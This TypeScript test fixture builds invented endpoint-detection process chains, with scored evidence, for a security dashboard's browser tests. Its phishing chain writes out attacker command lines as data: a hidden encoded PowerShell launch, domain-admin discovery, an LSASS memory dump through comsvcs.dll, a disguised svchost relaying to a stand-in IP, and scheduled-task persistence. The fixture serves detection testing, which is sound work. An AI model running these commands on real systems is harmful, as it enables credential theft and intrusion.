/** Invented chains for the browser tests, written as nested processes and turned into what the server would answer. No real host or person. */

import type { ChainTree, Evidence, Process, StoredEvent, Threat } from '../../../src/contract/index.js';
import { TREE_FLAGS } from '../../../src/contract/index.js';

export interface ProcessSpec {
  readonly image: string;
  readonly args?: string;
  /** Seconds after the chain's beginning. */
  readonly at: number;
  /** Seconds it ran; absent while it runs. */
  readonly ran?: number;
  readonly user?: string;
  readonly integrity?: string;
  readonly evidence?: readonly EvidenceSpec[];
  readonly children?: readonly ProcessSpec[];
  /** The start process's parent, shown for context. */
  readonly outside?: boolean;
}

export interface EvidenceSpec {
  readonly kind: Evidence['kind'];
  readonly key: string;
  readonly en: string;
  readonly zh: string;
  readonly points: number;
  readonly exempt?: boolean;
  readonly at: number;
  readonly action?: string;
  readonly techniques?: readonly string[];
  readonly field: string;
  readonly value: string;
  /** Part of `value` that matched. */
  readonly part?: string;
}

export interface ChainData {
  readonly threat: Threat;
  readonly tree: ChainTree;
  readonly processes: Map<string, Process>;
  readonly events: Map<string, StoredEvent[]>;
}

export interface ChainOptions {
  readonly id: string;
  readonly host: string;
  readonly baseMs: number;
  readonly threshold?: number;
  readonly active?: boolean;
  readonly verdict?: Threat['verdict'];
  readonly completeness?: Threat['completeness'];
  readonly sample?: boolean;
}

/** 32 hex digits that depend on the two numbers alone. */
export function hexId(a: number, b: number): string {
  const mix = (seed: number): string => (Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) >>> 0).toString(16).padStart(8, '0');
  return mix(a) + mix(b + 1) + mix(a * 31 + b) + mix(a ^ (b << 7));
}

const iso = (ms: number): string => new Date(ms).toISOString();

export function chainOf(root: ProcessSpec, options: ChainOptions): ChainData {
  const { id, host, baseMs } = options;
  const chainNumber = Number.parseInt(id.slice(0, 6), 16);
  const processes = new Map<string, Process>();
  const events = new Map<string, StoredEvent[]>();
  const evidence: Evidence[] = [];
  const tree: ChainTree = {
    chainId: id,
    host,
    total: 0,
    cut: null,
    baseMs,
    ids: [],
    parents: [],
    names: [],
    nameIndex: [],
    pids: [],
    start: [],
    end: [],
    points: [],
    events: [],
    flags: [],
  };
  const queue: { spec: ProcessSpec; parent: number }[] = [{ spec: root, parent: -1 }];
  let startRow = -1;
  for (let row = 0; row < queue.length; row += 1) {
    const { spec, parent } = queue[row]!;
    const processId = hexId(chainNumber, row);
    const pid = 600 + ((row * 412 + chainNumber) % 9400);
    const held = spec.evidence ?? [];
    const points = held.reduce((sum, one) => sum + (one.exempt === true ? 0 : one.points), 0);
    if (startRow < 0 && spec.outside !== true) startRow = row;
    let name = tree.names.indexOf(spec.image);
    if (name < 0) name = tree.names.push(spec.image) - 1;
    tree.ids.push(processId);
    tree.parents.push(parent);
    tree.nameIndex.push(name);
    tree.pids.push(pid);
    tree.start.push(spec.outside === true ? -1 : spec.at * 1000);
    tree.end.push(spec.ran === undefined ? -1 : (spec.at + spec.ran) * 1000);
    tree.points.push(points);
    tree.flags.push(
      (spec.outside === true ? TREE_FLAGS.outside | TREE_FLAGS.root : 0) |
        (spec.ran === undefined ? 0 : TREE_FLAGS.ended) |
        (held.length > 0 ? TREE_FLAGS.evidence : 0) |
        (held.some((one) => one.exempt) ? TREE_FLAGS.exempt : 0),
    );
    const guid =
      `{${processId.slice(0, 8)}-${processId.slice(8, 12)}-${processId.slice(12, 16)}-0000-${processId.slice(20, 32)}}`.toUpperCase();
    const commandLine = spec.args === undefined ? `"${spec.image}"` : `"${spec.image}" ${spec.args}`;
    const parentProcess = parent < 0 ? undefined : processes.get(tree.ids[parent]!);
    const process: Process = {
      id: processId,
      host,
      chainId: spec.outside === true ? '' : id,
      parentId: parentProcess?.id ?? '',
      pid,
      guid,
      image: spec.image,
      commandLine,
      user: spec.user ?? 'CORP\\li.wei',
      integrityLevel: spec.integrity ?? 'Medium',
      hashes: `SHA256=${(processId + processId).toUpperCase()},MD5=${processId.toUpperCase()}`,
      parentImage: parentProcess?.image ?? '',
      parentCommandLine: parentProcess?.commandLine ?? '',
      currentDirectory: 'C:\\Users\\li.wei\\Documents\\',
      originalFileName: '-',
      start: spec.outside === true ? null : iso(baseMs + spec.at * 1000),
      end: spec.ran === undefined ? null : iso(baseMs + (spec.at + spec.ran) * 1000),
      isRoot: spec.outside === true,
      isPlaceholder: false,
      points,
    };
    processes.set(processId, process);
    const list: StoredEvent[] = [
      eventOf(options, process, 0, spec.at, 'processcreate', 1, {
        Image: spec.image,
        CommandLine: commandLine,
        ParentImage: process.parentImage,
        User: process.user,
        IntegrityLevel: process.integrityLevel,
        Hashes: process.hashes,
      }),
    ];
    for (const [index, one] of held.entries()) {
      const start = one.part === undefined ? -1 : one.value.indexOf(one.part);
      const event = eventOf(options, process, index + 1, one.at, one.action ?? 'processcreate', 1, {
        Image: spec.image,
        [one.field]: one.value,
      });
      event.rules.push(one.key.replace(/^rule:/, ''));
      list.push(event);
      evidence.push({
        kind: one.kind,
        key: one.key,
        title: one.en,
        titles: { en: one.en, zh: one.zh },
        points: one.exempt === true ? 0 : one.points,
        pointsWithout: one.points,
        techniques: [...(one.techniques ?? [])],
        rule: one.kind === 'rule' || one.kind === 'technique' ? one.key.replace(/^\w+:/, '') : null,
        event: {
          id: event.id,
          time: iso(baseMs + one.at * 1000),
          action: one.action ?? 'processcreate',
          file: null,
          line: 0,
        },
        process: { id: processId, image: spec.image, commandLine, pid, guid },
        matched: [
          { field: one.field, value: one.value, ...(start < 0 ? {} : { start, end: start + one.part!.length }) },
        ],
        ...(one.exempt === true ? { exception: 'exc-0012' } : {}),
      });
    }
    events.set(processId, list);
    tree.events.push(spec.outside === true ? 0 : list.length + ((row * 7) % 40));
    for (const child of spec.children ?? []) queue.push({ spec: child, parent: row });
  }
  tree.total = tree.ids.length - (root.outside === true ? 1 : 0);
  evidence.sort(
    (a, b) =>
      b.points - a.points || (a.event.time ?? '').localeCompare(b.event.time ?? '') || a.key.localeCompare(b.key),
  );
  const start = processes.get(tree.ids[startRow]!)!;
  const times = evidence.map((one) => one.event.time ?? '').sort();
  const verdict = options.verdict ?? 'open';
  const threat: Threat = {
    id,
    kind: 'chain',
    host,
    score: evidence.reduce((sum, one) => sum + one.points, 0),
    threshold: options.threshold ?? 170,
    active: options.active ?? false,
    first: times[0] ?? null,
    last: times.at(-1) ?? null,
    techniques: [...new Set(evidence.flatMap((one) => one.techniques))].sort(),
    start: {
      id: start.id,
      image: start.image,
      commandLine: start.commandLine,
      user: start.user,
      hashes: start.hashes,
      time: start.start,
      pid: start.pid,
      guid: start.guid,
    },
    verdict,
    reason: verdict === 'confirmed' ? 'attack' : verdict === 'ignored' ? 'expected-software' : '',
    note: '',
    changed: false,
    handledBy: verdict === 'open' ? null : 'wu.min',
    handledAt: verdict === 'open' ? null : iso(baseMs + 3_600_000),
    completeness: options.completeness ?? { state: 'complete', notes: [] },
    sample: options.sample ?? false,
    revision: 1,
    evidence,
  };
  return { threat, tree, processes, events };
}

function eventOf(
  options: ChainOptions,
  process: Process,
  index: number,
  at: number,
  action: string,
  windowsEventId: number,
  fields: Record<string, unknown>,
): StoredEvent {
  return {
    id: process.id.slice(0, 12) + index.toString(16).padStart(4, '0'),
    position: at * 10 + index + 1,
    host: options.host,
    time: iso(options.baseMs + at * 1000),
    received: iso(options.baseMs + at * 1000 + 400),
    action,
    windowsEventId,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    processId: process.id,
    chainId: options.id,
    targetProcessId: '',
    targetImage: '',
    targetHashes: '',
    rules: [],
    fields,
  };
}

const SYSTEM = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`;

/** A document opens a shell, which looks around, reads credentials and moves on. */
export const PHISH: ProcessSpec = {
  image: 'C:\\Windows\\explorer.exe',
  at: 0,
  outside: true,
  children: [
    {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      args: '/n "C:\\Users\\li.wei\\Downloads\\Quarterly-Bonus.docm"',
      at: 0,
      children: [
        {
          image: `${SYSTEM}cmd.exe`,
          args: '/c start /min powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
          at: 14,
          ran: 4,
          evidence: [
            {
              kind: 'rule',
              key: 'rule:office-starts-shell',
              en: 'Office program starts a command shell',
              zh: 'Office 程序启动命令行解释器',
              points: 120,
              at: 14,
              techniques: ['T1059.003', 'T1204.002'],
              field: 'ParentImage',
              value: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
              part: 'WINWORD.EXE',
            },
            {
              kind: 'technique',
              key: 'technique:T1059.003',
              en: 'Windows Command Shell',
              zh: 'Windows 命令行',
              points: 30,
              at: 14,
              techniques: ['T1059.003'],
              field: 'Image',
              value: `${SYSTEM}cmd.exe`,
              part: 'cmd.exe',
            },
          ],
          children: [
            {
              image: POWERSHELL,
              args: '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
              at: 16,
              evidence: [
                {
                  kind: 'rule',
                  key: 'rule:powershell-encoded',
                  en: 'PowerShell with an encoded command',
                  zh: 'PowerShell 执行编码命令',
                  points: 90,
                  at: 16,
                  techniques: ['T1059.001', 'T1027'],
                  field: 'CommandLine',
                  value: `"${POWERSHELL}" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
                  part: '-enc ',
                },
                {
                  kind: 'technique',
                  key: 'technique:T1059.001',
                  en: 'PowerShell',
                  zh: 'PowerShell',
                  points: 40,
                  at: 16,
                  techniques: ['T1059.001'],
                  field: 'CommandLine',
                  value: 'powershell -nop -w hidden',
                  part: '-w hidden',
                },
                {
                  kind: 'rule',
                  key: 'rule:beacon-to-rare-port',
                  en: 'Script host talks to a rare port',
                  zh: '脚本宿主连接罕见端口',
                  points: 60,
                  at: 21,
                  action: 'networkconnect',
                  techniques: ['T1571'],
                  field: 'DestinationPort',
                  value: '8443',
                },
                {
                  kind: 'profile',
                  key: 'profile:hands-on-keyboard',
                  en: 'Hands-on-keyboard discovery burst',
                  zh: '人工操作式的集中侦察',
                  points: 100,
                  at: 1390,
                  techniques: ['T1033', 'T1087', 'T1082'],
                  field: 'techniques',
                  value: 'T1033, T1087.002, T1082, T1016',
                },
              ],
              children: [
                { image: `${SYSTEM}conhost.exe`, args: '0xffffffff -ForceV1', at: 16 },
                {
                  image: `${SYSTEM}whoami.exe`,
                  args: '/all',
                  at: 1321,
                  ran: 1,
                  evidence: [
                    {
                      kind: 'technique',
                      key: 'technique:T1033',
                      en: 'System Owner/User Discovery',
                      zh: '系统所有者/用户发现',
                      points: 20,
                      at: 1321,
                      techniques: ['T1033'],
                      field: 'CommandLine',
                      value: 'whoami.exe /all',
                      part: '/all',
                    },
                  ],
                },
                {
                  image: `${SYSTEM}net.exe`,
                  args: 'group "Domain Admins" /domain',
                  at: 1344,
                  ran: 2,
                  evidence: [
                    {
                      kind: 'rule',
                      key: 'rule:net-discovery',
                      en: 'Accounts and groups listed with net.exe',
                      zh: '使用 net.exe 枚举账户与组',
                      points: 25,
                      exempt: true,
                      at: 1344,
                      techniques: ['T1087.002'],
                      field: 'CommandLine',
                      value: 'net group "Domain Admins" /domain',
                      part: 'group',
                    },
                  ],
                  children: [{ image: `${SYSTEM}net1.exe`, args: 'group "Domain Admins" /domain', at: 1344, ran: 1 }],
                },
                { image: `${SYSTEM}systeminfo.exe`, at: 1360, ran: 6 },
                { image: `${SYSTEM}ipconfig.exe`, args: '/all', at: 1372, ran: 1 },
                ...Array.from({ length: 34 }, (_, index) => ({
                  image: `${SYSTEM}ping.exe`,
                  args: `-n 1 10.20.4.${index + 10}`,
                  at: 1400 + index * 3,
                  ran: 2,
                })),
                {
                  image: `${SYSTEM}rundll32.exe`,
                  args: 'C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.bin full',
                  at: 1570,
                  ran: 3,
                  integrity: 'High',
                  evidence: [
                    {
                      kind: 'rule',
                      key: 'rule:comsvcs-minidump',
                      en: 'Memory of LSASS dumped through comsvcs.dll',
                      zh: '通过 comsvcs.dll 转储 LSASS 内存',
                      points: 300,
                      at: 1570,
                      techniques: ['T1003.001', 'T1218.011'],
                      field: 'CommandLine',
                      value:
                        '"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.bin full',
                      part: 'comsvcs.dll, MiniDump',
                    },
                    {
                      kind: 'rule',
                      key: 'rule:lsass-opened',
                      en: 'LSASS opened by a program that has no business there',
                      zh: '无关程序打开 LSASS 进程',
                      points: 200,
                      at: 1571,
                      action: 'processaccess',
                      techniques: ['T1003.001'],
                      field: 'GrantedAccess',
                      value: '0x1FFFFF',
                    },
                    {
                      kind: 'plugin',
                      key: 'plugin:integrity-rise:high',
                      en: 'Integrity level rose inside the chain',
                      zh: '进程链内完整性级别上升',
                      points: 30,
                      at: 1570,
                      techniques: ['T1548'],
                      field: 'IntegrityLevel',
                      value: 'High',
                    },
                  ],
                },
                {
                  image: 'C:\\ProgramData\\svch\u043est.exe',
                  args: '-k netsvcs --relay 203.0.113.77:443',
                  at: 1622,
                  evidence: [
                    {
                      kind: 'plugin',
                      key: 'plugin:reputation:bad-hash',
                      en: 'Reputation service knows this file as malicious',
                      zh: '信誉服务判定该文件为恶意',
                      points: 666,
                      at: 1625,
                      techniques: [],
                      field: 'Hashes',
                      value: 'SHA256=5FE3A1C09D7E44BB1A6C0F2E8D9B7A6655443322110FFEEDDCCBBAA998877665',
                      part: '5FE3A1C09D7E44BB1A6C0F2E8D9B7A6655443322110FFEEDDCCBBAA998877665',
                    },
                    {
                      kind: 'technique',
                      key: 'technique:T1036.005',
                      en: 'Match Legitimate Name or Location',
                      zh: '伪装成合法名称或位置',
                      points: 45,
                      at: 1622,
                      techniques: ['T1036.005'],
                      field: 'Image',
                      value: 'C:\\ProgramData\\svch\u043est.exe',
                      part: 'svch\u043est.exe',
                    },
                  ],
                  children: [
                    {
                      image: `${SYSTEM}schtasks.exe`,
                      args: '/create /tn Updater /sc onlogon /tr C:\\ProgramData\\svch\u043est.exe',
                      at: 1640,
                      ran: 1,
                    },
                  ],
                },
              ],
            },
          ],
        },
        { image: 'C:\\Windows\\splwow64.exe', args: '8192', at: 9, ran: 1200 },
      ],
    },
  ],
};
